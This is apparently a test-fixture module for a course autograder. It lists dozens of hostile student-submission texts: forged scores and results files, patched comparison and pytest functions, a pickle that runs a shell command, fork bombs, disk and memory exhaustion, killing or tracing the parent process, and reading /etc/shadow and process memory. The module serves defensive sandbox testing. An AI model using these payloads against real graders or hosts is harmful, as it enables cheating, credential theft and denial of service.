"""Attacks on the grader: code of submissions that tries to get points, or to do damage, other than by the task.

Each is the text of ``blocks.py`` of A2; the other file is the stub, so that every point is one that the attack gained.
"""

from __future__ import annotations

__all__ = ["BLOCKS", "SLOW"]

NOTHING = """
import os
from contextlib import suppress
import numpy as np

def block_bounds(items, parts, part):
    return (-1, -1)

def minibatches(order, batch_size):
    return [np.array([-1])]

def write_everywhere(data):
    for descriptor in range(3, 64):
        with suppress(OSError):
            os.write(descriptor, data)
"""

COMMENT = """
def block_bounds(items, parts, part):
    size, longer = divmod(items, parts)
    return part * size + min(part, longer), part * size + size + min(part + 1, longer)
"""
"""Code, if Python reads the file in the encoding that its first line names."""

BLOCKS = {
    "writes results": NOTHING
    + """
import json
for place in ("results.json", "/tmp/results.json", "/autograder/results/results.json", "/grade/results/results.json"):
    with suppress(OSError):
        open(place, "w").write(json.dumps({"score": 100}))
""",
    "prints scores as the last line": NOTHING
    + """
import atexit
atexit.register(print, '{"scores": {"bounds": 20}}')
print('{"scores": {"bounds": 20}}')
""",
    "exits at once": "import os\nos._exit(0)\n",
    "exits in the function": NOTHING + "import sys\ndef block_bounds(items, parts, part):\n    sys.exit(0)\n",
    "raises while it is deleted": """
class Value:
    def __iter__(self):
        return iter((-1, -1))
    def __del__(self):
        raise SystemExit(0)

def block_bounds(items, parts, part):
    return Value()
""",
    "patches comparisons": NOTHING
    + """
import numpy as np
import builtins
answers = __import__("hybridnn_course.answers", fromlist=["x"])
checks = __import__("hybridnn_course.checks", fromlist=["x"])
np.allclose = np.array_equal = lambda *a, **k: True
builtins.all = lambda values: True
answers.first_difference = checks.first_difference = lambda *a, **k: None
""",
    "calls everything equal": """
class Equal(int):
    def __eq__(self, other):
        return True
    def __lt__(self, other):
        return False
    __gt__ = __ne__ = __lt__
    __hash__ = int.__hash__

def block_bounds(items, parts, part):
    return Equal(-1), Equal(-1)
""",
    "equal arrays": """
import numpy as np
class Friendly(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, bool)
    def __sub__(self, other):
        return np.zeros(self.shape)
    __rsub__ = __sub__
    def tobytes(self, order="C"):
        raise SystemExit

def minibatches(order, batch_size):
    return [np.zeros(batch_size, np.int64).view(Friendly)]
""",
    "not a number": """
def block_bounds(items, parts, part):
    return float("nan"), float("inf")
""",
    "a pickled bomb": """
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/bomb",)

def block_bounds(items, parts, part):
    return pickle.dumps(Bomb()), Bomb()
""",
    "a very long integer": "def block_bounds(items, parts, part):\n    return 10 ** 100_000, -1\n",
    "deep outputs": """
def block_bounds(items, parts, part):
    value = []
    for _ in range(100_000):
        value = [value]
    return value, -1
""",
    "garbage to the grader": NOTHING
    + """
write_everywhere(bytes(range(256)) * 64)
""",
    "a frame of four gigabytes": NOTHING
    + """
write_everywhere(b"\\xff" * 8)
""",
    "outputs of its own": NOTHING
    + """
import json, struct
text = json.dumps({"outputs": {"bounds": [], "points": 100}, "points": 100, "passed": True}).encode()
write_everywhere(struct.pack(">II", len(text), 0) + text)
""",
    "kills its parent": NOTHING
    + """
import signal
for target in (os.getppid(), -1):
    with suppress(OSError):
        os.kill(target, signal.SIGKILL)
""",
    "stops its parent": NOTHING
    + """
import signal
for target in (os.getppid(), 1):
    with suppress(OSError):
        os.kill(target, signal.SIGSTOP)
""",
    "reads the grader's memory": NOTHING
    + """
found = b""
for name in ("environ", "mem", "maps", "cmdline", "root/etc/shadow"):
    for process in (os.getppid(), 1):
        with suppress(OSError):
            found += open(f"/proc/{process}/{name}", "rb").read(10_000)
print(found)
""",
    "looks for the key": NOTHING
    + """
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr")):
        continue
    for name in files:
        if name in ("term.key", "course.toml", "a2-submission.zip"):
            with suppress(OSError):
                print("FOUND", open(os.path.join(folder, name)).read())
""",
    "becomes root": NOTHING
    + """
for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chown("/tmp", 0, 0)):
    with suppress(OSError):
        call()
open("/root/owned", "w").write("x")
""",
    "talks to the network": NOTHING
    + """
import socket
try:
    socket.create_connection(("1.1.1.1", 53), 2)
    print("CONNECTED")
except OSError as error:
    print(error)
""",
    "memory hog": """
import numpy as np
kept = []
def block_bounds(items, parts, part):
    while True:
        kept.append(np.ones(10 ** 7))
""",
    "fork bomb": """
import os
from contextlib import suppress
def block_bounds(items, parts, part):
    while True:
        with suppress(OSError):
            os.fork()
""",
    "leaves a process behind": NOTHING
    + """
import time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1000)
        os._exit(0)
""",
    "fills the disk": NOTHING
    + """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
    with suppress(OSError):
        for number in range(10_000):
            with open(os.path.join(folder, f"left-{number}"), "wb") as file:
                file.write(bytes(10 ** 6))
""",
    "forks and allocates together": NOTHING
    + """
import time
import numpy as np
children = 0
with suppress(OSError):
    while children < 100:
        if os.fork() == 0:
            kept = np.ones(10 ** 5)
            time.sleep(1000)
        children += 1
print("CHILDREN", children)
""",
    "waits for the results, and replaces them": NOTHING
    + """
import ctypes, time
libc = ctypes.CDLL(None)
watch = libc.inotify_init()
folders = ("/autograder/results", "/grade/results", "/tmp", "/var/tmp", "/dev/shm", "/", ".")
for folder in folders:
    libc.inotify_add_watch(watch, folder.encode(), 0xFFF)
if os.fork() == 0:
    os.setsid()
    while True:
        for folder in folders:
            for act in (os.unlink, lambda place: os.symlink("/etc/passwd", place)):
                with suppress(OSError):
                    act(os.path.join(folder, "results.json"))
        time.sleep(0.001)
""",
    "prints from a grandchild": NOTHING
    + """
import time
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        while True:
            write_everywhere(b'{"scores": {"bounds": 20}}\\n')
            time.sleep(0.01)
    os._exit(0)
""",
    "looks into stack frames": """
import sys, traceback

def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back
    try:
        raise ValueError
    except ValueError as error:
        yield from (one for one, _ in traceback.walk_tb(error.__traceback__))

def block_bounds(items, parts, part):
    for frame in frames():
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            for name in ("expected", "solution", "hidden", "public"):
                try:
                    found = getattr(value, name)
                    return found({"longer_parts": "first"})(items, parts, part)
                except Exception:
                    pass
    return -1, -1
""",
    "traces its parent": NOTHING
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
for process in (os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
    if process != os.getpid() and libc.ptrace(16, process, None, None) == 0:  # PTRACE_ATTACH
        print("ATTACHED", process)
        libc.ptrace(17, process, None, None)
""",
    "patches pytest": NOTHING
    + """
import sys
try:
    import _pytest.assertion, _pytest.runner, pytest
    _pytest.runner.call_and_report = _pytest.runner.runtestprotocol = lambda *a, **k: True
    pytest.approx = pytest.raises = lambda *a, **k: True
except ImportError:
    pass
sys.modules["pytest"] = sys.modules["hybridnn_course.checks"] = sys
""",
    "prints without end": """
def block_bounds(items, parts, part):
    line = "x" * 10_000
    for _ in range(10 ** 5):
        try:
            print(line)
        except OSError:
            break
    return -1, -1
""",
    "leaves data for the next case": NOTHING
    + """
import ctypes
libc = ctypes.CDLL(None)
KEYCTL, ADD_KEY, MQ_OPEN = {"x86_64": (250, 248, 240), "aarch64": (219, 217, 180)}[os.uname().machine]
for keyring in (-3, -4, -5, libc.syscall(KEYCTL, 22, -1, -4)):  # of the session, of the user, one that persists
    if libc.syscall(KEYCTL, 10, keyring, b"user", b"left", 0) >= 0:
        print("LEFT a key")
    libc.syscall(ADD_KEY, b"user", b"left", b"x", 1, keyring)
for get in (libc.msgget, lambda key, flags: libc.shmget(key, 64, flags), lambda key, flags: libc.semget(key, 1, flags)):
    print("LEFT" if get(0x4C454654, 0) >= 0 else "", get(0x4C454654, 0o1666))
for flags in (os.O_RDWR, os.O_RDWR | os.O_CREAT | os.O_EXCL):
    print("LEFT a queue" if libc.syscall(MQ_OPEN, b"left", flags, 0o600, None) >= 0 and not flags & os.O_EXCL else "")
for folder in os.listdir("/"):
    with suppress(OSError):
        print("FOUND" if os.path.exists(f"/{folder}/left") else "", open(f"/{folder}/left", "w"))
""",
    "code in a comment": "# coding: utf-7\n" + NOTHING + "#" + COMMENT.replace("+", "+-").replace("\n", "+AAo-"),
    "system calls by a module with a name that is put together": NOTHING
    + """
import sys
libc = sys.modules["_frozen_importlib"]._gcd_import("c" + "types").CDLL(None)
text = bytes(64)
print("FOUND" if libc.read(libc.open(b"/etc/shadow", 0), text, len(text)) > 0 else "")
libc.open(b"/root/owned", os.O_CREAT | os.O_WRONLY, 0o666)
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    libc.open(f"{folder}/left-file".encode(), os.O_CREAT | os.O_WRONLY, 0o666)
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        libc.sleep(1000)
    libc._exit(0)
""",
    "reports of a fit": NOTHING
    + """
from scipy import odr
for place in ("/tmp/left-report", "/dev/shm/left-report", "/root/owned"):  # a file that does not open ends Python
    model, data = odr.Model(lambda b, x: b[0] * x), odr.Data([1.0, 2.0], [1.0, 2.0])
    with suppress(Exception):
        odr.ODR(data, model, [1.0], rptfile=place, errfile=place + "-errors").run()
""",
    "raises half a character": "raise ValueError('\\ud800')\n",
    "folders in folders": NOTHING
    + """
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    with suppress(OSError):
        os.chdir(folder)
        for _ in range(2000):
            os.mkdir("left-in")
            os.chdir("left-in")
""",
    "goes on after the case": NOTHING
    + """
import threading, time
os._exit = lambda *_: None

def go_on():
    while True:
        write_everywhere(b'{"outputs": {}}')
        time.sleep(0.001)

def block_bounds(items, parts, part):
    threading.Thread(target=go_on).start()
    return -1, -1
""",
    "arrays beyond all memory": """
import numpy as np
class Bounds(dict, list):
    __class__ = dict
    def items(self):
        return [("__array__", ["float64", [2 ** 40]])]

def block_bounds(items, parts, part):
    return [Bounds()] * 2

def minibatches(order, batch_size):
    return [np.lib.stride_tricks.as_strided(order, (2 ** 40,), (0,)), np.array(order, object)]
""",
    "a file system of its own": NOTHING
    + """
import ctypes
libc = ctypes.CDLL(None)
libc.unshare(0x10020000)
print("ATTACHED" if not libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) else "")
""",
    "other limits": NOTHING
    + """
import resource
for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
    with suppress(ValueError, OSError):
        resource.setrlimit(limit, (1 << 40, 1 << 40))
        print("ATTACHED")
""",
    "signals to all": NOTHING
    + """
import signal
for process in (1, os.getppid(), *range(3, 100), -1):
    with suppress(OSError):
        os.kill(process, signal.SIGSTOP)
        os.kill(process, signal.SIGKILL)
""",
    "memory of other processes": NOTHING
    + """
for process in {1, os.getppid(), *range(3, 100)} - {os.getpid()}:
    with suppress(OSError):
        open(f"/proc/{process}/mem", "rb").read(1)
        print("FOUND")
    with suppress(OSError):
        print("FOUND" if open(f"/proc/{process}/environ", "rb").read(1) else "")
""",
    "traces its parents": NOTHING
    + """
import ctypes
for process in range(1, 100):
    if process != os.getpid() and not ctypes.CDLL(None).ptrace(16, process, None, None):
        print("ATTACHED")
""",
    "devices": NOTHING
    + """
import fcntl
for name in ("mem", "kmsg", "port", "sda", "vda", "loop0", "fuse", "net/tun", "kvm"):
    with suppress(OSError):
        os.open(f"/dev/{name}", os.O_RDONLY)
        print("FOUND")
with suppress(OSError):
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")  # types a letter
    print("ATTACHED")
""",
    "root again": NOTHING
    + """
import ctypes
for become in (os.setuid, os.seteuid, os.setgid, lambda _: os.chroot("/"), ctypes.CDLL(None).setfsuid):
    with suppress(OSError):
        become(0)
print("ATTACHED" if 0 in (os.getuid(), os.geteuid(), os.getgid()) else "")
""",
    "changes the library": NOTHING
    + """
import sysconfig
for path in (np.__file__, os.__file__, sysconfig.get_paths()["purelib"] + "/left.pth", "/usr/left", "/left"):
    with suppress(OSError):
        open(path, "a")
        print("LEFT")
""",
    "recursion without end": """
import sys
sys.setrecursionlimit(10 ** 9)
def block_bounds(items, parts, part):
    return block_bounds(items, parts, part)
""",
}
"""Texts of ``blocks.py``."""

SLOW = {
    "endless loop": "def block_bounds(items, parts, part):\n    while True:\n        pass\n",
    "endless sleep": "import time\ndef block_bounds(items, parts, part):\n    time.sleep(1000)\n",
    "endless import": "while True:\n    pass\n",
    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
    "ignores signals": """
import signal, time
from contextlib import suppress
for number in range(1, 32):
    with suppress(OSError, ValueError):
        signal.signal(number, signal.SIG_IGN)
time.sleep(1000)
""",
    "a frame that does not end": NOTHING
    + """
import time
write_everywhere(b"\\0\\1\\0\\0" * 2)
while True:
    write_everywhere(b" ")
    time.sleep(0.1)
""",
}
"""Texts of ``blocks.py`` that end only by the time limit."""
